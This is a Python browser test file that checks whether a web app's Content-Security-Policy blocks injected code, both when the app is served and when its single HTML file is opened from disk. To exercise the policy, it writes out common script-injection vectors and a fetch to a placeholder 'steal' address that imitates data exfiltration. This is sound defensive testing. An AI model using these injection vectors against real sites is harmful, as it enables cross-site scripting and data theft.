"""The Content-Security-Policy is enforced: in the served page and in the single file opened
from disk, script that someone manages to put into the page does not run, and the page cannot
reach other hosts. (Every other browser test fails on any policy violation of our own.)"""

from __future__ import annotations

from conftest import DIST, guard_context, wait_ready

# Each attempt reports whether its script ran; the policy must stop all of them.
ATTEMPTS = """async () => {
  window.ran = [];
  const violations = [];
  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
  const settle = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));

  const inline = document.createElement("script");           // an injected inline script
  inline.textContent = "window.ran.push('inline script')";
  document.body.append(inline);

  const handler = document.createElement("img");              // an inline event handler
  handler.setAttribute("onerror", "window.ran.push('event handler')");
  handler.src = "data:,not-an-image";
  document.body.append(handler);

  const fromData = document.createElement("script");         // a script from a data: URL
  fromData.src = "data:text/javascript,window.ran.push('data: script')";
  document.body.append(fromData);

  const link = document.createElement("a");                   // a javascript: link
  link.href = "javascript:window.ran.push('javascript: URL')";
  document.body.append(link);
  link.click();

  let fetched = "not attempted";                              // a request to another host
  try {
    await fetch("http://192.0.2.1/steal?x=1");
    fetched = "sent";
  } catch (err) {
    fetched = "refused";
  }
  await new Promise((resolve) => { fromData.onerror = resolve; fromData.onload = resolve; setTimeout(resolve, 0); });
  for (let i = 0; i < 3; i++) await settle();
  return { ran: window.ran, fetched, violations: [...new Set(violations)].sort() };
}"""


def check_attempts(page, guard_csp: list[str]) -> None:
    result = page.evaluate(ATTEMPTS)
    assert result["ran"] == []
    assert result["fetched"] == "refused"
    assert {"script-src-elem", "script-src-attr", "connect-src"} <= set(result["violations"])
    assert any("inline script" in m or "script-src" in m for m in guard_csp)
    # The app still works afterwards.
    got = page.evaluate("backpropExplorer.select({layer: 1, to: 1, from: 1})")
    assert got["pathCount"] == 1


def test_injected_script_does_not_run_in_the_served_page(browser, site_url) -> None:
    context = browser.new_context()
    guard = guard_context(context)
    page = context.new_page()
    page.goto(site_url)
    wait_ready(page)
    assert guard.csp == []  # the page itself causes no violation
    check_attempts(page, guard.csp)
    assert guard.blocked == []  # refused by the policy before any request was made
    context.close()


def test_injected_script_does_not_run_in_the_single_file(browser, site_url) -> None:
    # site_url builds dist/ when it is missing
    context = browser.new_context()
    csp: list[str] = []
    context.on(
        "console", lambda m: csp.append(m.text) if "Content Security Policy" in m.text else None
    )
    page = context.new_page()
    page.goto((DIST / "backprop-explorer.html").as_uri())
    wait_ready(page)
    assert csp == []
    check_attempts(page, csp)
    context.close()
